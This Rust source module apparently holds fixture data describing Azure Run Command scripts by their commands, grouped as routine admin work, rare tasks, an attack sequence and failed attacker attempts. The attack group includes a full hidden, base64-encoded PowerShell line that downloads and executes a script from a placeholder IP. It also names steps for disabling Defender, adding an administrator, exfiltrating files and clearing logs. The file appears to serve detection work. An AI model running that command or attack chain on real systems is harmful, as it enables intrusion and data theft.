//! What the day's Run Command scripts do.

/// A script by the commands it runs.
pub(super) struct Script {
    pub what: &'static str,
    pub commands: &'static [&'static str],
}

/// Scripts of operations that run again and again, on many machines.
pub(super) const ROUTINE: [Script; 8] = [
    Script { what: "patch inventory", commands: &["Get-HotFix", "Select-Object", "ConvertTo-Json", "Out-File"] },
    Script { what: "restart the web pool", commands: &["Import-Module", "Get-WebAppPoolState", "Restart-WebAppPool"] },
    Script {
        what: "disk clean-up",
        commands: &["Get-ChildItem", "Where-Object", "Remove-Item", "Get-PSDrive", "Write-Output"],
    },
    Script { what: "agent version", commands: &["Get-Service", "Get-ItemProperty", "Write-Output"] },
    Script {
        what: "certificate expiry",
        commands: &["Get-ChildItem", "Where-Object", "Sort-Object", "Format-Table", "Out-String"],
    },
    Script { what: "time source", commands: &["w32tm.exe", "Restart-Service", "Write-Output"] },
    Script {
        what: "join the domain",
        commands: &["Get-WmiObject", "Test-NetConnection", "Add-Computer", "Restart-Computer"],
    },
    Script {
        what: "log collection",
        commands: &["Get-WinEvent", "Where-Object", "Export-Csv", "Compress-Archive", "Copy-Item", "Copy-Item"],
    },
];

/// Scripts of operators that run once: rare, and harmless.
pub(super) const RARE: [Script; 4] = [
    Script {
        what: "extend a volume",
        commands: &["Get-Partition", "Get-PartitionSupportedSize", "Resize-Partition", "Get-Volume"],
    },
    Script { what: "check replication", commands: &["Import-Module", "Get-ADReplicationFailure", "Format-List"] },
    Script { what: "list shares", commands: &["Get-SmbShare", "Get-SmbShareAccess", "Export-Csv"] },
    Script { what: "test a firewall rule", commands: &["Get-NetFirewallRule", "Test-NetConnection", "Write-Output"] },
];

/// The attack, in its order.
pub(super) const ATTACK: [Script; 6] = [
    Script {
        what: "look around",
        commands: &["whoami.exe", "Get-LocalUser", "Get-LocalGroupMember", "Get-NetTCPConnection", "Get-ADUser"],
    },
    Script {
        what: "download and run an encoded command",
        commands: &[
            // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a.ps1')
            "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcANwAvAGEALgBwAHMAMQAnACkA",
            "New-Object",
            "Invoke-Expression",
        ],
    },
    Script {
        what: "switch Defender off",
        commands: &["Set-MpPreference", "Add-MpPreference", "Stop-Service", "Set-ItemProperty"],
    },
    Script {
        what: "make an administrator",
        commands: &["ConvertTo-SecureString", "New-LocalUser", "Add-LocalGroupMember", "Set-LocalUser"],
    },
    Script {
        what: "fetch a tool and schedule it",
        commands: &["Invoke-WebRequest", "Unblock-File", "New-ScheduledTaskAction", "Register-ScheduledTask"],
    },
    Script {
        what: "pack and send files",
        commands: &["Get-ChildItem", "Compress-Archive", "Invoke-RestMethod", "Remove-Item", "Clear-EventLog"],
    },
];

/// What the attacker tried in vain: Azure refused or the script failed.
pub(super) const ATTEMPTS: [Script; 2] = [
    Script { what: "dump credentials", commands: &["Get-Process", "rundll32.exe", "Copy-Item"] },
    Script { what: "open the firewall", commands: &["New-NetFirewallRule", "Enable-PSRemoting"] },
];
